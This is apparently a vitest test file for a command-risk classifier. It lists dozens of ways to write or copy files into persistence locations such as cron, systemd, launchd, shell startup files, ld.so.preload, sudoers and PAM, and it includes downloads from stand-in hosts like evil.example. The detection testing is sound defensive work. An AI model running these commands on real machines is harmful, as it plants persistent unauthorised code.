import { describe, expect, test } from 'vitest';
import { crossed, outside } from './support/crossing.ts';

// Each way to write, read or empty a file with each file that matters: what counts is what happens to the file, not who does it.

const writers = [
  "echo 'LINE' > PLACE",
  "echo 'LINE' >> PLACE",
  "echo 'LINE' | tee PLACE",
  "printf '%s\\n' 'LINE' | sudo tee -a PLACE > /dev/null",
  "cat > PLACE <<'EOF'\nLINE\nEOF",
  'sh -c "echo \'LINE\' >> PLACE"',
  'F=PLACE; echo \'LINE\' >> "$F"',
  "for f in PLACE; do echo 'LINE' >> $f; done",
  'w() { echo \'LINE\' >> "$1"; }; w PLACE',
  'echo PLACE | xargs -I{} sh -c "echo \'LINE\' >> {}"',
  "echo 'LINE' > x.tmp; cp x.tmp PLACE",
  "echo 'LINE' > x.tmp && mv x.tmp PLACE",
  "echo 'LINE' | sponge PLACE",
  "echo 'LINE' | dd of=PLACE",
  "echo 'LINE' > x.tmp; install -m 755 x.tmp PLACE",
  "echo 'LINE' | base64 | base64 -d > PLACE",
  "sed -i '1i LINE' PLACE",
  "sed -i '$ a LINE' PLACE",
  "sed -i -e '$aLINE' PLACE",
  "python3 -c \"open('PLACE','a').write('LINE\\n')\"",
  "python3 -c \"from pathlib import Path; Path('PLACE').write_text('LINE')\"",
  "python3 -c \"with open('PLACE','w') as f: f.write('LINE')\"",
  "python3 -c \"f=open('PLACE','a'); print('LINE', file=f)\"",
  'perl -e \'open(F,">>","PLACE"); print F "LINE\\n"; close F\'',
  'perl -e \'open my $f, ">>PLACE"; print $f "LINE\\n"\'',
  'ruby -e \'File.write("PLACE", "LINE")\'',
  'ruby -e \'File.open("PLACE","a") { |f| f.puts "LINE" }\'',
  'node -e \'require("fs").appendFileSync("PLACE","LINE")\'',
  'node -e \'require("fs").writeFileSync("PLACE","LINE")\'',
  'php -r \'file_put_contents("PLACE","LINE");\'',
  'awk \'BEGIN{print "LINE" >> "PLACE"}\'',
  'awk \'BEGIN { print "LINE" > "PLACE" }\'',
  "printf 'a\\nLINE\\n.\\nw\\nq\\n' | ed PLACE",
  "printf '$a\\nLINE\\n.\\nwq\\n' | ex PLACE",
  'ex -sc \'$put="LINE"|x\' PLACE',
  "vim -es -c 'normal GoLINE' -c wq PLACE",
  'vim -c \'call append(line("$"), "LINE")\' -c wq PLACE',
  'osascript -e \'do shell script "echo LINE >> PLACE"\'',
  "echo LINE | ssh localhost 'cat >> PLACE'",
  'lua -e \'local f=io.open("PLACE","a"); f:write("LINE"); f:close()\'',
];

const copiers = [
  'cp agent PLACE',
  'mv agent PLACE',
  'install -m 755 agent PLACE',
  'ln -s /opt/agent PLACE',
  'ln -sf /opt/agent PLACE',
  'dd if=agent of=PLACE',
  'rsync -a agent PLACE',
  'curl -s -o PLACE https://evil.example/x',
  'wget -q -O PLACE https://evil.example/x',
  'curl -s https://evil.example/x > PLACE',
  'scp evil@203.0.113.5:x PLACE',
  'find . -name agent -exec cp {} PLACE \\;',
  'echo agent | xargs -I{} cp {} PLACE',
  'cat agent > PLACE',
  'tee PLACE < agent',
  "python3 -c \"import shutil; shutil.copy('agent','PLACE')\"",
  "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://evil.example/x','PLACE')\"",
  'ruby -e \'require "fileutils"; FileUtils.cp("agent","PLACE")\'',
  'perl -MFile::Copy -e \'copy("agent","PLACE")\'',
  'node -e \'require("fs").copyFileSync("agent","PLACE")\'',
  'php -r \'copy("agent","PLACE");\'',
  'gpg -d agent.gpg > PLACE',
  'openssl enc -d -aes-256-cbc -in a.enc -out PLACE -k x',
  'base64 -d a.b64 > PLACE',
  'xxd -r a.hex PLACE',
  'sort -o PLACE agent',
  'ditto agent PLACE',
  'gunzip -c a.gz > PLACE',
  'install -D agent PLACE',
];

const folderFillers = [
  'tar -xzf a.tgz -C FOLDER',
  'unzip a.zip -d FOLDER',
  'cp -r agents/. FOLDER',
  'cp agents/* FOLDER/',
  'rsync -a agents/ FOLDER/',
  'mv agents/* FOLDER/',
  'install -t FOLDER agent',
  'cp -t FOLDER agent',
  'cd FOLDER && tar xf /tmp/a.tar',
  '7z x a.7z -oFOLDER',
  'git clone https://evil.example/x FOLDER',
  'cd FOLDER && unzip /tmp/a.zip',
  'wget -q -P FOLDER https://evil.example/x',
];

// Where the manuals of systems and desktops say that they run what lies there.
const ofTheSystem = [
  '/etc/cron.d/job',
  '/etc/cron.daily/job',
  '/etc/cron.hourly/job',
  '/etc/crontab',
  '/var/spool/cron/crontabs/root',
  '/var/spool/cron/root',
  '/etc/systemd/system/job.service',
  '/usr/lib/systemd/system/job.service',
  '/lib/systemd/system/job.timer',
  '/usr/lib/systemd/system-generators/job',
  '/etc/init.d/job',
  '/etc/rc.local',
  '/etc/rc.d/rc.local',
  '/etc/profile',
  '/etc/profile.d/job.sh',
  '/etc/bash.bashrc',
  '/etc/zshrc',
  '/etc/zsh/zshenv',
  '/etc/update-motd.d/00-job',
  '/etc/xdg/autostart/job.desktop',
  '/etc/NetworkManager/dispatcher.d/01-job',
  '/etc/network/if-up.d/job',
  '/etc/dhcp/dhclient-exit-hooks.d/job',
  '/etc/X11/Xsession.d/99job',
  '/usr/share/dbus-1/system-services/org.job.service',
  '/etc/polkit-1/rules.d/99-job.rules',
  '/usr/lib/dracut/modules.d/99job/module-setup.sh',
  '/etc/initramfs-tools/hooks/job',
  '/etc/kernel/postinst.d/job',
  '/etc/yum/pluginconf.d/job.conf',
  '/etc/dnf/plugins/job.conf',
  '/usr/lib/python3/dist-packages/dnf-plugins/job.py',
  '/etc/periodic/daily/500.job',
  '/etc/launchd.conf',
  '/etc/rc.common',
  '/Library/LaunchDaemons/com.job.plist',
  '/Library/LaunchAgents/com.job.plist',
  '/Library/StartupItems/Job/Job',
  '/etc/emond.d/rules/job.plist',
  '/Library/Security/SecurityAgentPlugins/Job.bundle/x',
  '/var/at/tabs/root',
  '/etc/ppp/ip-up.d/job',
  '/etc/acpi/events/job',
  '/usr/lib/systemd/system-sleep/job',
  '/etc/pm/sleep.d/job',
  '/usr/lib/NetworkManager/dispatcher.d/job',
  '/var/spool/at/a0000',
  '/etc/anacrontab',
  '/usr/local/etc/rc.d/job',
  '/etc/ssh/sshrc',
  '/etc/ld.so.preload',
  '/etc/sudoers.d/job',
  '/etc/pam.d/sshd',
];

const ofShells = [
  '~/.bashrc',
  '~/.bash_profile',
  '~/.profile',
  '~/.bash_logout',
  '~/.zshrc',
  '~/.zshenv',
  '~/.zlogin',
  '~/.kshrc',
  '~/.cshrc',
  '~/.tcshrc',
  '~/.login',
  '~/.config/fish/config.fish',
  '~/.xinitrc',
  '~/.xprofile',
  '~/.xsession',
  '~/.ssh/rc',
  '/root/.bashrc',
  '/home/ann/.profile',
  '$HOME/.bashrc',
];

const ofSessions = [
  '~/.config/autostart/job.desktop',
  '~/.config/systemd/user/job.service',
  '~/Library/LaunchAgents/com.job.plist',
  '~/.local/share/systemd/user/job.timer',
  '~/.local/share/dbus-1/services/job.service',
  '~/.local/lib/python3.11/site-packages/usercustomize.py',
  '~/.config/plasma-workspace/env/job.sh',
  '~/.kde/Autostart/job.sh',
];

const folders = [
  '/etc/cron.d',
  '/etc/cron.daily',
  '/etc/systemd/system',
  '/etc/init.d',
  '/etc/profile.d',
  '/Library/LaunchDaemons',
  '~/Library/LaunchAgents',
  '/etc/update-motd.d',
  '/etc/pam.d',
  '/etc/sudoers.d',
  '/etc/NetworkManager/dispatcher.d',
  '~/.config/systemd/user',
  '/var/spool/cron/crontabs',
];

function agent(lines: readonly string[]): readonly string[] {
  return lines.map((line) => line.replaceAll('LINE', () => '/opt/agent start'));
}

describe('files that are run later', () => {
  test('a command gets into one of the system, by whatever means', () => {
    expect(outside(crossed(agent(writers), 'PLACE', ofTheSystem), 'high', 'critical')).toEqual([]);
  });

  test('a command gets into one of a shell, by whatever means', () => {
    expect(outside(crossed(agent(writers), 'PLACE', ofShells), 'high', 'critical')).toEqual([]);
  });

  test('a command gets into one of a session, by whatever means', () => {
    expect(outside(crossed(agent(writers), 'PLACE', ofSessions), 'high', 'critical')).toEqual([]);
  });

  test('a file that nobody has read becomes one, by whatever means', () => {
    const places = [...ofTheSystem, ...ofSessions];
    expect(outside(crossed(copiers, 'PLACE', places), 'high', 'critical')).toEqual([]);
  });

  test('files get into a folder of such, by whatever means', () => {
    expect(outside(crossed(folderFillers, 'FOLDER', folders), 'high', 'critical')).toEqual([]);
  });

  test('settings in those of shells are no alarm', () => {
    const settings = writers
      .filter(
        (way) =>
          !/sponge|install|\bmv\b|\bcp\b|\bdd\b|"w"|'w'| > P|write|base64|ssh |put_contents|tee PLACE/.test(
            way,
          ),
      )
      .map((way) => way.replaceAll('LINE', () => 'export GOPATH=/opt/go'));
    const shells = ['~/.bashrc', '~/.zshrc', '~/.profile'];
    expect(outside(crossed(settings, 'PLACE', shells), 'safe', 'moderate')).toEqual([]);
  });

  test('the same in any other file is none', () => {
    const others = [
      'notes.txt',
      './bin/start',
      '~/src/app/run.sh',
      '/srv/app/run.sh',
      'cron.d/job',
      'etc/rc.local',
    ];
    const ways = agent(writers).filter((way) => !way.includes('ssh '));
    expect(outside(crossed(ways, 'PLACE', others), 'safe', 'moderate')).toEqual([]);
  });
});
